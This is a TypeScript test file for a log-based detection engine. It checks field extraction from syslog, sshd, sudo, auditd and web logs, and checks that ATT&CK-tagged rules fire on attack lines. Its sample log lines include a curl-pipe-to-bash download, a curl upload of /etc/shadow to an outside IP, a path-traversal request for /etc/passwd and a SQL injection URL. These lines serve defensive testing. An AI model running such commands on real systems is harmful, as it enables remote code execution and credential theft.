import { describe, expect, it } from 'vitest';
import { DetectionEngine } from '../../src/detection/engine.js';
import { loadRules } from '../../src/detection/sigma/loader.js';

const engine = new DetectionEngine({ rules: [] });
/** Fields the built-in extractors pull out of one raw line. */
function extract(line: string): Record<string, unknown> {
  engine.evaluate({ 'event.original': line, message: line });
  return engine.lastExtracted() ?? {};
}

describe('built-in extractors', () => {
  it('syslog header and sshd', () => {
    expect(extract('Dec 10 09:32:20 LabSZ sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2')).toMatchObject({
      'host.name': 'LabSZ',
      'process.name': 'sshd',
      'process.pid': 24680,
      'user.name': 'fztu',
      'source.ip': '119.137.62.142',
      'source.port': 49116,
      'event.outcome': 'success',
    });
    expect(extract('Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]')).toMatchObject({
      'user.name': 'root',
      'source.ip': '5.36.59.76',
      'source.port': 42393,
      'event.outcome': 'failure',
    });
    expect(
      extract('Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!'),
    ).toMatchObject({
      'source.domain': 'ns.marryaldkfaczcz.com',
      'source.ip': '173.234.31.186',
    });
  });

  it('pam_unix, with a host name in rhost going to source.domain (Linux_2k)', () => {
    const f = extract(
      'Jun 15 02:04:59 combo sshd(pam_unix)[20882]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=220-135-151-1.hinet-ip.hinet.net  user=root',
    );
    expect(f).toMatchObject({ 'process.name': 'sshd(pam_unix)', 'source.domain': '220-135-151-1.hinet-ip.hinet.net', 'user.name': 'root', 'event.outcome': 'failure' });
    expect(f['source.ip']).toBeUndefined();
    expect(extract('Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)')).toMatchObject({
      'user.name': 'cyrus',
      'event.action': 'session-opened',
    });
  });

  it('sudo and su', () => {
    expect(extract('Nov 27 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update')).toMatchObject({
      'process.name': 'sudo',
      'user.name': 'alice',
      'user.target.name': 'root',
      'process.command_line': '/usr/bin/apt update',
      'process.working_directory': '/home/alice',
      'event.outcome': 'success',
    });
    expect(extract('Nov 27 10:00:00 srv sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash')).toMatchObject({
      'user.name': 'bob',
      'event.outcome': 'failure',
      'process.command_line': '/bin/bash',
    });
    expect(extract('Nov 27 10:00:00 srv su[42]: FAILED SU (to root) mallory on pts/2')).toMatchObject({
      'user.name': 'mallory',
      'user.target.name': 'root',
      'event.outcome': 'failure',
    });
  });

  it('auditd EXECVE with hex-encoded arguments', () => {
    const arg = Buffer.from('echo hi > /tmp/x').toString('hex').toUpperCase();
    const f = extract(`type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="bash" a1="-c" a2=${arg}`);
    expect(f).toMatchObject({
      'event.module': 'auditd',
      'event.category': 'process',
      'auditd.type': 'EXECVE',
      'auditd.a2': 'echo hi > /tmp/x',
      'process.command_line': 'bash -c echo hi > /tmp/x',
      'process.name': 'bash',
    });
    expect(f['process.args']).toEqual(['bash', '-c', 'echo hi > /tmp/x']);
  });

  it('web access logs (combined format), "-" is absent', () => {
    const f = extract('203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET /index.php?id=1%20union%20select HTTP/1.1" 200 512 "-" "sqlmap/1.7"');
    expect(f).toMatchObject({
      'source.ip': '203.0.113.7',
      'http.request.method': 'GET',
      'url.original': '/index.php?id=1%20union%20select',
      'http.response.status_code': 200,
      'user_agent.original': 'sqlmap/1.7',
    });
    expect(f['user.name']).toBeUndefined();
  });

  it('file hashes and netfilter ports', () => {
    expect(extract('Nov 27 10:00:00 h scanner[1]: quarantined file sha256=' + 'a'.repeat(64) + ' md5=' + 'b'.repeat(32))).toMatchObject({
      'file.hash.sha256': 'a'.repeat(64),
      'file.hash.md5': 'b'.repeat(32),
    });
    expect(extract('Nov 27 10:00:00 fw kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.4 DST=10.0.0.5 PROTO=TCP SPT=51514 DPT=22')).toMatchObject({
      'source.ip': '198.51.100.4',
      'destination.ip': '10.0.0.5',
      'source.port': 51514,
      'destination.port': 22,
    });
  });

  it('a custom regex extractor adds fields rules can use', async () => {
    const { rules } = await loadRules([], { builtin: false });
    const e = new DetectionEngine({
      rules,
      extractors: [
        {
          name: 'app',
          type: 'regex',
          when: { 'process.name': ['myapp'] },
          patterns: [{ regex: 'login by (?<user__name>\\w+) from (?<source__ip>[\\d.]+)', set: { 'event.outcome': 'success' } }],
        },
      ],
    });
    e.evaluate({ 'event.original': 'Nov 27 10:00:00 h myapp[3]: login by carol from 192.0.2.1', message: 'Nov 27 10:00:00 h myapp[3]: login by carol from 192.0.2.1' });
    expect(e.lastExtracted()).toMatchObject({ 'user.name': 'carol', 'source.ip': '192.0.2.1', 'event.outcome': 'success' });
  });
});

describe('built-in rules', () => {
  const hits = async () => {
    const { rules } = await loadRules([], { builtin: true });
    const e = new DetectionEngine({ rules });
    return (line: string) => (e.evaluate({ 'event.original': line, message: line }) ?? []).map((i) => e.rules[i]!.name);
  };

  it('ship with ATT&CK tags', async () => {
    const { rules } = await loadRules([], { builtin: true });
    const e = new DetectionEngine({ rules });
    const byName = Object.fromEntries(e.rules.map((r) => [r.name, r.techniques]));
    expect(byName).toMatchObject({
      rf_failed_authentication: ['T1110'],
      rf_privilege_escalation: expect.arrayContaining(['T1548', 'T1068']),
      rf_suspicious_command: ['T1059.004', 'T1105'],
      rf_network_scanning: ['T1046'],
      rf_data_exfiltration: ['T1048', 'T1041'],
      rf_malware_indicator: ['T1204', 'T1105', 'T1496'],
      rf_exploitation_attempt: ['T1190'],
      rf_successful_authentication: ['T1078'],
    });
  });

  it('each fires on its attack and not on ordinary lines', async () => {
    const h = await hits();
    expect(h('Nov 27 10:00:00 srv sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash')).toContain('rf_privilege_escalation');
    expect(h('Nov 27 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash')).toContain('rf_privilege_escalation');
    expect(h('Nov 27 10:00:00 srv sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update')).not.toContain('rf_privilege_escalation');
    expect(h('Nov 27 10:00:00 srv bash[9]: curl -s http://198.51.100.1/x.sh | bash')).toContain('rf_suspicious_command');
    expect(h('Nov 27 10:00:00 srv bash[9]: curl -s http://198.51.100.1/x.sh -o x.sh')).not.toContain('rf_suspicious_command');
    expect(h('Nov 27 10:00:00 srv sshd[9]: Did not receive identification string from 198.51.100.2')).toContain('rf_network_scanning');
    expect(h('Nov 27 10:00:00 srv bash[9]: curl -T /etc/shadow http://203.0.113.5/')).toContain('rf_data_exfiltration');
    expect(h('Nov 27 10:00:00 srv clamd[9]: /tmp/a.out: Unix.Trojan.Mirai-1 FOUND')).toContain('rf_malware_indicator');
    expect(h('Nov 27 10:00:00 srv app[9]: user not found')).not.toContain('rf_malware_indicator');
    expect(h('Nov 27 10:00:00 srv xmrig[9]: use pool stratum+tcp://pool.example:3333')).toContain('rf_malware_indicator');
    expect(h('203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 404 0 "-" "curl/8"')).toContain('rf_exploitation_attempt');
    expect(h('203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 10 "-" "curl/8"')).toEqual([]);
    expect(h('Dec 10 09:32:20 LabSZ sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2')).toEqual(['rf_successful_authentication']);
  });
});
